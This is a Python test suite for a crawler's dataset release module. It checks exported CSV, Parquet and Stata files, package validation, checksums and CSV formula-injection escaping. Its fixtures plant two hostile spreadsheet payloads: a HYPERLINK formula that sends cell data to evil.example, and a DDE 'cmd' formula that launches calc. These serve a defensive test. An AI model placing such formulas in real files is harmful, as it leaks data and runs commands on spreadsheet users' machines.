"""A release: read back by the programs that it is made for, with the same numbers, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
from datetime import date
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from frictionless import Package
from hypothesis import given
from hypothesis import strategies as st

from crawler import release
from crawler.dataset import Dataset
from tests.conftest import Crawl, scrapy

DAY = date(2026, 1, 31)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture(scope="session")
def folder(sample_crawl: Crawl, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample dataset with a hostile title and a hostile name in it."""
    copy = tmp_path_factory.mktemp("release") / "data"
    copy.mkdir()
    source = sqlite3.connect(sample_crawl.folder / "reports.db")
    source.execute("vacuum into ?", [str(copy / "reports.db")])
    with Dataset(copy) as dataset:
        dataset.db.execute("update reports set title = ? where county_code = '640221'", [EVIL])
        dataset.db.execute("update portals set reason = '@SUM(1+1)*cmd|''/C calc''!A0' where code = '640221'")
    return copy


@pytest.fixture(scope="session")
def made(folder: Path) -> Path:
    return release.make(folder, folder / "releases", DAY)


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def names(made: Path) -> list[str]:
    return sorted(path.stem for path in (made / "csv").glob("*.csv"))


def test_it_has_the_tables_and_what_explains_them(made: Path) -> None:
    assert made.name == "2026-01-31"
    assert {"applications", "disclosure", "litigation", "reports", "coverage", "panel", "timeliness"} <= set(
        names(made)
    )
    beside = {path.name for path in made.iterdir()}
    assert {"datapackage.json", "codebook.csv", "LICENCE.md", "CHANGES.md", "changes.csv", "SHA256SUMS"} <= beside
    assert not list(made.parent.glob(".*")), "nothing half-made remains"


def test_frictionless_finds_no_fault(made: Path) -> None:
    report = Package(str(made / "datapackage.json")).validate()
    assert report.valid, report.flatten(["type", "message"])
    assert report.stats["tasks"] == len(names(made))


def test_frictionless_would_find_one(made: Path, tmp_path: Path) -> None:
    package = json.loads((made / "datapackage.json").read_text("utf-8"))
    resource = next(each for each in package["resources"] if each["name"] == "applications")
    (tmp_path / "csv").mkdir()
    text = (made / resource["path"]).read_text("utf-8")
    (tmp_path / resource["path"]).write_text(text.replace(",0,", ",zero,", 1), encoding="utf-8")
    (tmp_path / "datapackage.json").write_text(json.dumps(package | {"resources": [resource]}), encoding="utf-8")
    assert not Package(str(tmp_path / "datapackage.json")).validate().valid


def test_every_format_has_the_same_rows_and_sums(made: Path) -> None:
    for name in names(made):
        expected = len(rows(made / "csv" / f"{name}.csv"))
        frame = pd.read_csv(made / "csv" / f"{name}.csv", encoding="utf-8-sig", dtype={"county_code": str})
        parquet = pd.read_parquet(made / "parquet" / f"{name}.parquet")
        stata = pd.read_stata(made / "stata" / f"{name}.dta")
        counted = duckdb.sql(f"select count(*) from '{made}/parquet/{name}.parquet'").fetchall()
        read = duckdb.sql(f"select count(*) from read_csv('{made}/csv/{name}.csv', header = true, all_varchar = true)")
        assert [len(frame), len(parquet), len(stata)] == [expected] * 3, name
        assert counted == read.fetchall() == [(expected,)], name
    columns = [c for c in pd.read_parquet(made / "parquet" / "applications.parquet").columns if "__" in c]
    csv_sum = pd.read_csv(made / "csv" / "applications.csv", encoding="utf-8-sig")[columns].sum().sum()
    assert csv_sum == pd.read_parquet(made / "parquet" / "applications.parquet")[columns].sum().sum()


def test_a_blank_is_not_a_zero_anywhere(made: Path) -> None:
    """红寺堡区 leaves the items of 其他处理 out and has their total as one number."""
    table = pd.read_parquet(made / "parquet" / "applications.parquet").set_index("county_code")
    assert pd.isna(table.loc["640303", "other.other__total"])
    assert table.loc["640303", "other__total"] == 0
    stata = pd.read_stata(made / "stata" / "applications.dta").set_index("county_code")
    assert pd.isna(stata.loc["640303", "other_other__total"])
    assert stata.loc["640303", "other__total"] == 0


def test_excel_sees_chinese_and_no_formula(made: Path) -> None:
    for path in (made / "csv").glob("*.csv"):
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), "without the mark Excel shows rubbish"
        assert b"\n" not in raw.replace(b"\r\n", b"") or path.stem in {"statements", "reports", "suspicious"}
        for row in rows(path):
            for column, text in row.items():
                number = text.lstrip("-").replace(".", "", 1).isdigit()
                assert number or not text.lstrip()[:1] or text.lstrip()[0] not in "=+-@＝＋－＠", (
                    path.name,
                    column,
                    text,
                )
    titles = {row["title"] for row in rows(made / "csv" / "reports.csv")}
    assert f"'{EVIL}" in titles
    assert EVIL in set(pd.read_parquet(made / "parquet" / "reports.parquet")["title"]), "Parquet holds the text itself"


@pytest.mark.parametrize("text", ["=1", "+1", "-1+2", "@a", " =1", "\t=1", "＝1", "'x", "\r=1", "\n@"])
def test_what_a_spreadsheet_would_run(text: str) -> None:
    assert release.harmless(text) == "'" + text


@given(st.text(alphabet="=+-@'＝ \t\na1公", max_size=5))
def test_a_text_comes_back_without_its_first_apostrophe(text: str) -> None:
    assert release.harmless(text).removeprefix("'") == text


@pytest.mark.parametrize("text", ["", "平罗县", "0953-6095028", "a=1", "http://a/?b=1", "第一 - 第二"])
def test_what_it_would_not(text: str) -> None:
    assert release.harmless(text) == text


def test_codes_stay_text(made: Path) -> None:
    package = json.loads((made / "datapackage.json").read_text("utf-8"))
    for resource in package["resources"]:
        for column in resource["schema"]["fields"]:
            if column["name"] in {"county_code", "code", "division_code"}:
                assert column["type"] == "string"
            assert column["title"]
            assert column["description"]


def test_checksums(made: Path) -> None:
    listed = dict(reversed(line.split("  ", 1)) for line in (made / "SHA256SUMS").read_text("utf-8").splitlines())
    there = {p.relative_to(made).as_posix() for p in made.rglob("*") if p.is_file()} - {"SHA256SUMS"}
    assert set(listed) == there
    for name, expected in listed.items():
        assert hashlib.sha256((made / name).read_bytes()).hexdigest() == expected


def test_stata_names_are_allowed_and_differ() -> None:
    from crawler.dataset import wide_columns

    for table in (1, 2, 3, 4):
        columns = ["report_id", *(f"{row}__{column}" for row, column in wide_columns(table))]
        found = release.stata_names(columns)
        assert len(set(found)) == len(columns)
        assert all(len(name) <= 32 and name.isidentifier() for name in found)
    assert release.stata_names(["if", "2a", "denied.three_securities_one_stability__natural_person"]) == [
        "_if", "_2a", "denied_three_securities_one___np"]  # fmt: skip


def test_the_same_dataset_gives_the_same_files(folder: Path, made: Path, tmp_path: Path) -> None:
    again = release.make(folder, tmp_path, DAY)
    assert (again / "SHA256SUMS").read_text("utf-8") == (made / "SHA256SUMS").read_text("utf-8")


def test_changes_against_the_release_before(folder: Path, made: Path) -> None:
    with Dataset(folder) as dataset:
        changed, gone = [row["report_id"] for row in dataset.db.view("applications").rows][:2]
        dataset.db.execute('update applications_values set "received__total" = 77 where report_id = ?', [changed])
        dataset.db.execute("delete from applications_values where report_id = ?", [gone])
    later = release.make(folder, made.parent, date(2026, 2, 28))
    found = [row for row in rows(later / "changes.csv") if row["table"] == "applications"]
    assert sorted((row["what"], row["column"], row["before"], row["after"]) for row in found) == [
        ("changed", "received__total", "0", "77"), ("removed", "", "", "")]  # fmt: skip
    assert "0 rows added, 1 removed, 1 values changed in 1 rows" in (later / "CHANGES.md").read_text("utf-8")


def test_tables_too_long_for_a_program_are_only_there_as_parquet(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(release, "STATA_ROWS", 10)
    monkeypatch.setattr(release, "CSV_ROWS", 80)
    long = release.make(folder, tmp_path, DAY)
    counts = {path.stem: len(pd.read_parquet(path)) for path in (long / "parquet").iterdir()}
    assert {path.stem for path in (long / "csv").iterdir()} == {name for name, n in counts.items() if n <= 80}
    assert {path.stem for path in (long / "stata").iterdir()} == {name for name, n in counts.items() if n <= 10}
    assert f"- panel: {counts['panel']} rows, only as Parquet" in (long / "CHANGES.md").read_text("utf-8")
    assert Package(str(long / "datapackage.json")).validate().valid


def test_a_release_is_never_changed(folder: Path, made: Path) -> None:
    with pytest.raises(release.Refused, match="exists already"):
        release.make(folder, made.parent, DAY)


def test_the_command(folder: Path, tmp_path: Path) -> None:
    done = scrapy("release", "--to", str(tmp_path / "out"), "--date", "2026-03-01", folder=folder)
    assert done.code == 0, done.err
    assert (tmp_path / "out" / "2026-03-01" / "datapackage.json").exists()
    refused = scrapy("release", "--to", str(tmp_path / "out"), folder=tmp_path)
    assert refused.code == 1
    assert "crawl first" in refused.err
    assert scrapy("release", "--date", "soon", folder=folder).code == 1
